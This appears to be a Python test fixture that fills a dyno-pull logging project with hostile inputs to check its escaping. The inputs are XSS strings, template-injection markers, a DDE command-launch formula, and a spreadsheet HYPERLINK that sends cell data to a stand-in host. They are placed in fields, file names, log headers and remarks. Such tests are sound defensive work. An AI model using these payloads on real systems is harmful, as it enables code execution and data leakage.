"""A book whose every word from outside tries to be something else: markup, script, a formula, a path."""

from __future__ import annotations

from pathlib import Path

from fairpull.tasks.bench.door import new_book
from fairpull.tasks.bench.sheet_files import keep_sheets
from fairpull.tasks.bench.take import TakeOptions, take_files
from fairpull.terms.bench import Sheet
from tests.tasks.bench.shop import DAY, MILL, sweep

SCRIPT = "<script>alert(1)</script>"
PICTURE = '"><img src=x onerror=alert(2)>'
SHUT = "</title></script><svg onload=alert(3)>"
TEMPLATE = "{{ 7 * 7 }}{% raw %}"
FORMULA = '=HYPERLINK("http://rebound.example/"&A1)'
BUILDS = (f"=cmd|' /C calc'!A0 {SCRIPT}", f"@SUM(1+1) {PICTURE}")
ENGINE = f"Mill {SHUT}"
SESSION = f"day {TEMPLATE} {SCRIPT}"
PARTS = (f"log {PICTURE}", f"header {SCRIPT}")
OPERATOR = f"+1 {SHUT}"
CHANNEL = f"{FORMULA} {SCRIPT} [V]"
REMARK = f"javascript:alert(4) {SCRIPT} {PICTURE} {TEMPLATE}"

SHEETS = (
    Sheet("engine", ENGINE, MILL),
    Sheet("part", PARTS[0], {"kind": "exhaust", "design": "log", "notes": SCRIPT}),
    Sheet("part", PARTS[1], {"kind": "exhaust", "design": "tubular", "notes": FORMULA}),
    Sheet("build", BUILDS[0], {"engine": ENGINE, "parts": {"exhaust": PARTS[0]}}),
    Sheet("build", BUILDS[1], {"engine": ENGINE, "reference": BUILDS[0], "parts": {"exhaust": PARTS[1]}}),
    Sheet("session", SESSION, {"date": DAY, "brake": PICTURE, "operator": OPERATOR, "altitude": "120 m"}),
)


def make_hostile_book(folder: Path, logs: Path) -> list[str]:
    """Make the book.

    Args:
        folder: where it goes.
        logs: where its raw logs go.

    Returns:
        Names of its pulls.
    """
    with new_book(folder) as kept:
        keep_sheets(kept, SHEETS)
        names: list[str] = []
        for side, build in enumerate(BUILDS):
            for number in range(2):
                # a file's name may hold anything but a slash
                log = logs / f"{side}{number} {SCRIPT.replace('/', '')} {PICTURE}.csv"
                sweep(log, f"1{side}:{number}0:00", gain=1.0 + 0.03 * side, more={CHANNEL.replace(",", ";"): 3.0})
                head = log.read_text("utf-8")
                log.write_text(f"# Operator: {SCRIPT}\n# Remark: {REMARK}\n{head}", "utf-8")
                report = take_files(kept, [log], build, TakeOptions(session=SESSION))
                names += [line.name for line in report.kept]
        for name in names:
            kept.remark(("pull", name), REMARK, SCRIPT)
        kept.remark(("build", BUILDS[1]), REMARK, PICTURE)
        kept.set("fitted", BUILDS[1])
    return names
